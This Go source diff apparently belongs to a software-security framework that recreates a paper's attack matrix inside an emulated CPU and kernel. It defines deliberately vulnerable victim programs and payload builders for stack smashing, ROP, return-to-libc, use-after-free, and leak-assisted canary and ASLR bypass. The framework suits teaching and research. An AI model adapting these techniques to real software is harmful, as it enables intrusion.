@@ -1,0 +1,492 @@
+package core
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+
+	"softsec/internal/attack"
+	"softsec/internal/cpu"
+	"softsec/internal/kernel"
+)
+
+var le = binary.LittleEndian
+
+// Recon is what a realistic I/O attacker knows before sending a byte: the
+// victim binary (they can buy/download the same software) and the
+// platform's *nominal* layout. ASLR's whole value is that the actual
+// layout differs from this reconnaissance.
+type Recon struct {
+	// Addresses in the nominal (non-ASLR) layout.
+	BufAddr     uint32 // main's first local buffer
+	SpawnShell  uint32
+	Syscall3    uint32
+	Exit        uint32
+	Pop4Gadget  uint32 // pop×4; ret (argument skipper)
+	Puts        uint32 // libc puts — the code-corruption target
+	DataScratch uint32 // writable scratch cell in .data
+	StartRet    uint32 // return address main's frame holds (into _start)
+	Canary      uint32 // the predictable default canary
+	TextBase    uint32
+}
+
+// ReconNominal builds attacker knowledge by loading the attacker's own
+// copy of the victim at the nominal layout and reading symbols — exactly
+// what an attacker with the binary does offline.
+func ReconNominal(s Scenario, m Mitigations) (Recon, error) {
+	probe := m
+	probe.ASLR = false // recon happens on the attacker's machine
+	p, err := BuildVictim(s, probe)
+	if err != nil {
+		return Recon{}, err
+	}
+	var r Recon
+	get := func(name string) uint32 {
+		a, ok := p.SymbolAddr(name)
+		if !ok {
+			err = fmt.Errorf("core: recon: symbol %q missing", name)
+		}
+		return a
+	}
+	r.SpawnShell = get("spawn_shell")
+	r.Puts = get("puts")
+	r.Syscall3 = get("syscall3")
+	r.Exit = get("exit")
+	if err != nil {
+		return Recon{}, err
+	}
+	r.TextBase = p.Layout.Text
+	r.DataScratch = p.Layout.Data + 0x800
+	r.Canary = p.Canary
+	// main's frame: _start pushes a return address (ESP-4), main's
+	// prologue pushes EBP (ESP-8 = EBP); the first 16-byte buffer local
+	// sits at EBP-16 (EBP-20 with a canary).
+	ebp := p.Layout.StackTop - 8
+	if m.Canary {
+		r.BufAddr = ebp - 20
+	} else {
+		r.BufAddr = ebp - 16
+	}
+	r.StartRet, _ = p.SymbolAddr("_start")
+	r.StartRet += 5 // the instruction after `call main`
+	// Mine the pop4 gadget from libc text.
+	text, _ := p.Mem.PeekRaw(p.Layout.Text, len(p.Linked.Text))
+	gs := attack.FindGadgets(text, p.Layout.Text, 6)
+	if g, ok := attack.FindPopChain(gs, 4); ok {
+		r.Pop4Gadget = g.Addr
+	} else {
+		return Recon{}, fmt.Errorf("core: recon: no pop4 gadget in victim")
+	}
+	return r, nil
+}
+
+// An AttackSpec is one row of the Table-1 matrix: a named attack technique
+// with its vulnerable victim program, its payload builder, and its success
+// oracle.
+type AttackSpec struct {
+	Name string
+	// Technique is the paper's Section III-B category.
+	Technique string
+	// Victim is the vulnerable MinC program this technique targets.
+	Victim string
+	// Build constructs the attacker input given reconnaissance.
+	Build func(r Recon, m Mitigations) kernel.InputSource
+	// Goal is the success oracle.
+	Goal Oracle
+}
+
+// Scenario instantiates the runnable scenario for a mitigation config.
+func (a AttackSpec) Scenario(m Mitigations) (Scenario, error) {
+	s := Scenario{Name: a.Name, Source: a.Victim, Goal: a.Goal}
+	r, err := ReconNominal(s, m)
+	if err != nil {
+		return Scenario{}, err
+	}
+	s.Attacker = a.Build(r, m)
+	return s, nil
+}
+
+// victimEcho is the paper's Figure 1 server with the bug of Section III-A
+// dialed up: it reads up to 128 bytes into a 16-byte stack buffer.
+const victimEcho = `
+void get_request(int fd, char buf[]) {
+	read(fd, buf, 128); // spatial vulnerability: buf holds only 16
+}
+void process(int fd) {
+	char buf[16];
+	get_request(fd, buf);
+}
+void main() {
+	char buf[16];
+	read(0, buf, 128);  // same bug at frame depth 1 for payload simplicity
+}`
+
+// victimArbWrite has the paper's buf[i] = v vulnerability: index and value
+// both come from the attacker, so the whole address space is writable.
+const victimArbWrite = `
+void main() {
+	int v[4];
+	int idx = 0;
+	int val = 0;
+	while (read(0, &idx, 4) == 4) {
+		if (read(0, &val, 4) != 4) return;
+		v[idx] = val; // unchecked attacker-controlled index
+	}
+	puts("bye");
+}`
+
+// victimDataOnly guards an action with a flag sitting right above a
+// carelessly-sized buffer — the paper's isAdmin example.
+const victimDataOnly = `
+void main() {
+	int is_admin = 0;
+	char name[16];
+	read(0, name, 20); // off-by-four: exactly reaches is_admin
+	if (is_admin) {
+		write(1, "ADMIN", 5);
+	} else {
+		write(1, "user", 4);
+	}
+}`
+
+// victimLeak echoes back an attacker-chosen number of bytes from a 16-byte
+// buffer — the shape of Heartbleed (confidentiality attack).
+const victimLeak = `
+void main() {
+	char buf[16];
+	int n = 0;
+	read(0, &n, 4);
+	read(0, buf, 16);
+	write(1, buf, n); // over-read: leaks canary, saved EBP, return address
+}`
+
+// victimLeakThenSmash first over-reads (leaking canary and addresses),
+// then over-writes: the adaptive attacker uses the leak to defeat canary
+// and ASLR together, as in "Breaking the memory secrecy assumption".
+const victimLeakThenSmash = `
+void main() {
+	char buf[16];
+	int n = 0;
+	read(0, &n, 4);
+	read(0, buf, 16);
+	write(1, buf, n);
+	read(0, buf, 128); // and now the overflow
+}`
+
+// victimFnPtr keeps a function pointer right above a fixed-size buffer in
+// static data — the paper's "memory cells that contain function pointers"
+// bullet. The overflow rewrites where the later indirect call goes.
+const victimFnPtr = `
+char name[16];
+int *handler;
+
+int greet() {
+	write(1, "hi ", 3);
+	write(1, name, strlen(name));
+	return 0;
+}
+void main() {
+	handler = greet;
+	read(0, name, 24); // overflows into handler
+	int *f = handler;
+	f(); // control-flow hijack point
+}`
+
+// victimHeapUAF frees a privilege-bearing object too early; the attacker's
+// input allocation reuses the chunk (LIFO free list), and the program
+// keeps trusting the stale pointer — heap-flavoured type confusion, the
+// temporal vulnerability in its modern dress.
+const victimHeapUAF = `
+void main() {
+	int *session = malloc(16);
+	session[0] = 0;        // session->is_admin = 0
+	free(session);         // premature free: the bug
+	char *name = malloc(16);
+	read(0, name, 16);     // attacker bytes land in the old chunk
+	if (session[0]) {
+		write(1, "ADMIN", 5);
+	} else {
+		write(1, "user", 4);
+	}
+}`
+
+// victimTemporal returns a dangling pointer to a dead stack frame and then
+// reads into it — the paper's temporal vulnerability. The dead frame is
+// re-occupied by libc read()'s own activation record, so the write
+// corrupts a *live* return address without ever touching a canary.
+const victimTemporal = `
+char *make() {
+	char buf[16];
+	return buf; // dangling: buf dies with this frame
+}
+void main() {
+	char *p = make();
+	read(0, p, 64); // temporal vulnerability
+}`
+
+// outputHas returns an oracle matching a marker in the victim's output.
+func outputHas(marker string) Oracle {
+	return func(p *kernel.Process, st cpu.State) bool {
+		return bytes.Contains(p.Output.Bytes(), []byte(marker))
+	}
+}
+
+// exitedWith returns an oracle matching a specific exit code.
+func exitedWith(code int32) Oracle {
+	return func(p *kernel.Process, st cpu.State) bool {
+		return st == cpu.Exited && p.CPU.ExitCode() == code
+	}
+}
+
+func orOracle(a, b Oracle) Oracle {
+	return func(p *kernel.Process, st cpu.State) bool {
+		return a(p, st) || b(p, st)
+	}
+}
+
+// pwned is the oracle for arbitrary code execution.
+var pwned = orOracle(outputHas(attack.PwnMarker), exitedWith(attack.PwnExitCode))
+
+// shelled is the oracle for reaching libc's system() stand-in.
+var shelled = orOracle(outputHas("SHELL!"), exitedWith(attack.ShellExitCode))
+
+// words packs uint32s little-endian.
+func words(ws ...uint32) []byte {
+	b := make([]byte, 4*len(ws))
+	for i, w := range ws {
+		le.PutUint32(b[4*i:], w)
+	}
+	return b
+}
+
+// Attacks is the catalog of Section III-B techniques, one per row of the
+// T1 matrix.
+func Attacks() []AttackSpec {
+	return []AttackSpec{
+		{
+			Name:      "stack-smash-inject",
+			Technique: "direct code injection",
+			Victim:    victimEcho,
+			Goal:      pwned,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// Plant shellcode just above the smashed return
+				// address and point the return address at it.
+				scAddr := r.BufAddr + 24
+				retOff := 20
+				if m.Canary {
+					scAddr = r.BufAddr + 28
+					retOff = 24
+				}
+				s := &attack.SmashSpec{
+					RetOff:    retOff,
+					Ret:       scAddr,
+					EBP:       r.BufAddr,
+					CanaryOff: -1,
+					Suffix:    attack.MarkerShellcode(scAddr),
+				}
+				return &kernel.ScriptInput{s.Build()}
+			},
+		},
+		{
+			Name:      "code-corruption",
+			Technique: "code corruption",
+			Victim:    victimArbWrite,
+			Goal:      pwned,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// Overwrite libc's puts with shellcode using the
+				// arbitrary-write primitive; the victim calls puts
+				// after its read loop, running the corrupted code.
+				// (Targeting code that the loop itself still needs —
+				// read() — would crash the victim mid-attack.) The
+				// word-granular primitive needs a 4-aligned base, so
+				// never-executed lead-in bytes pad the blob.
+				target := r.Puts
+				base := target &^ 3
+				blob := append(bytes.Repeat([]byte{0x90}, int(target-base)),
+					attack.MarkerShellcode(target)...)
+				for len(blob)%4 != 0 {
+					blob = append(blob, 0x90)
+				}
+				// v[] sits at r.BufAddr; idx counts in 4-byte elements.
+				vAddr := r.BufAddr
+				var chunks [][]byte
+				for i := 0; i+4 <= len(blob); i += 4 {
+					idx := (base + uint32(i) - vAddr) / 4
+					chunks = append(chunks, words(idx), words(le.Uint32(blob[i:])))
+				}
+				si := kernel.ScriptInput(chunks)
+				return &si
+			},
+		},
+		{
+			Name:      "return-to-libc",
+			Technique: "code reuse (return-to-libc)",
+			Victim:    victimEcho,
+			Goal:      shelled,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				retOff := 20
+				if m.Canary {
+					retOff = 24
+				}
+				s := &attack.SmashSpec{
+					RetOff:    retOff,
+					Ret:       r.SpawnShell,
+					EBP:       r.BufAddr,
+					CanaryOff: -1,
+				}
+				return &kernel.ScriptInput{s.Build()}
+			},
+		},
+		{
+			Name:      "rop-chain",
+			Technique: "code reuse (ROP)",
+			Victim:    victimEcho,
+			Goal:      pwned,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// Chain: read(0, scratch, 6) brings the marker into
+				// memory; write(1, scratch, 6) prints it; exit(66).
+				var c attack.ROPChain
+				c.CallCdecl(r.Syscall3, r.Pop4Gadget, kernel.SysRead, 0, r.DataScratch, 6)
+				c.CallCdecl(r.Syscall3, r.Pop4Gadget, kernel.SysWrite, 1, r.DataScratch, 6)
+				c.FinalCall(r.Exit, attack.PwnExitCode)
+				retOff := 20
+				if m.Canary {
+					retOff = 24
+				}
+				s := &attack.SmashSpec{
+					RetOff:    retOff,
+					Ret:       c.First(),
+					EBP:       r.BufAddr,
+					CanaryOff: -1,
+					Suffix:    c.Rest(),
+				}
+				si := kernel.ScriptInput{s.Build(), []byte(attack.PwnMarker)}
+				return &si
+			},
+		},
+		{
+			Name:      "data-only",
+			Technique: "data-only attack",
+			Victim:    victimDataOnly,
+			Goal:      outputHas("ADMIN"),
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// 16 filler bytes then a non-zero word lands exactly
+				// on is_admin; no code pointer is touched.
+				payload := append(bytes.Repeat([]byte{'x'}, 16), words(1)...)
+				return &kernel.ScriptInput{payload}
+			},
+		},
+		{
+			Name:      "info-leak",
+			Technique: "information leak (over-read)",
+			Victim:    victimLeak,
+			// Confidentiality oracle: more bytes than the buffer holds
+			// leave the process.
+			Goal: func(p *kernel.Process, st cpu.State) bool {
+				return p.Output.Len() > 16
+			},
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				return &kernel.ScriptInput{words(64), []byte("AAAAAAAAAAAAAAAA")}
+			},
+		},
+		{
+			Name:      "leak-assisted-ret2libc",
+			Technique: "info leak + code reuse (defeats canary and ASLR)",
+			Victim:    victimLeakThenSmash,
+			Goal:      shelled,
+			Build:     buildLeakAssisted,
+		},
+		{
+			Name:      "fnptr-hijack",
+			Technique: "overwriting code pointers (function pointer)",
+			Victim:    victimFnPtr,
+			Goal:      shelled,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// 16 bytes of name, then the handler slot = spawn_shell.
+				payload := append(bytes.Repeat([]byte{'x'}, 16), words(r.SpawnShell)...)
+				return &kernel.ScriptInput{payload}
+			},
+		},
+		{
+			Name:      "heap-uaf",
+			Technique: "temporal (heap use-after-free, type confusion)",
+			Victim:    victimHeapUAF,
+			Goal:      outputHas("ADMIN"),
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// Any non-zero leading word flips the stale is_admin.
+				return &kernel.ScriptInput{words(1, 0, 0, 0)}
+			},
+		},
+		{
+			Name:      "temporal-uaf",
+			Technique: "temporal (dangling stack pointer)",
+			Victim:    victimTemporal,
+			Goal:      shelled,
+			Build: func(r Recon, m Mitigations) kernel.InputSource {
+				// The dangling buffer coincides with read()'s own
+				// frame: filler, saved EBP, then read's return address
+				// — redirected to spawn_shell. No canary protects
+				// libc's hand-written frames, but a canary-compiled
+				// make() shifts the dead buffer 4 bytes down.
+				retOff := 20
+				if m.Canary {
+					retOff = 24
+				}
+				s := &attack.SmashSpec{
+					RetOff:    retOff,
+					Ret:       r.SpawnShell,
+					EBP:       r.BufAddr,
+					CanaryOff: -1,
+				}
+				return &kernel.ScriptInput{s.Build()}
+			},
+		},
+	}
+}
+
+// buildLeakAssisted is the adaptive attacker of "Breaking the memory
+// secrecy assumption": request a 64-byte over-read, recover the live
+// canary and the return address into _start, rebase libc from the leak,
+// then smash with the correct canary and the *actual* spawn_shell address.
+func buildLeakAssisted(r Recon, m Mitigations) kernel.InputSource {
+	step := 0
+	return kernel.InputFunc(func(max int, out []byte) []byte {
+		step++
+		switch step {
+		case 1:
+			return words(64) // leak length
+		case 2:
+			return []byte("AAAAAAAAAAAAAAAA") // fill the buffer
+		case 3:
+			if len(out) < 28 {
+				return nil
+			}
+			// Frame under Canary: buf at EBP-20 → leak offsets:
+			// canary at +16, saved EBP at +20, return addr at +24.
+			// Without canary: buf at EBP-16 → EBP at +16, ret at +20.
+			var canary, leakedRet uint32
+			retOff := 20
+			if m.Canary {
+				canary = le.Uint32(out[16:])
+				leakedRet = le.Uint32(out[24:])
+				retOff = 24
+			} else {
+				leakedRet = le.Uint32(out[20:])
+			}
+			// Rebase: the leaked return address is _start+5 in the
+			// *actual* layout; spawn_shell follows at a fixed delta.
+			spawn := leakedRet + (r.SpawnShell - r.StartRet)
+			s := &attack.SmashSpec{
+				RetOff:    retOff,
+				Ret:       spawn,
+				EBP:       r.BufAddr,
+				CanaryOff: -1,
+			}
+			if m.Canary {
+				s.WithCanary(16, canary)
+			}
+			return s.Build()
+		}
+		return nil
+	})
+}
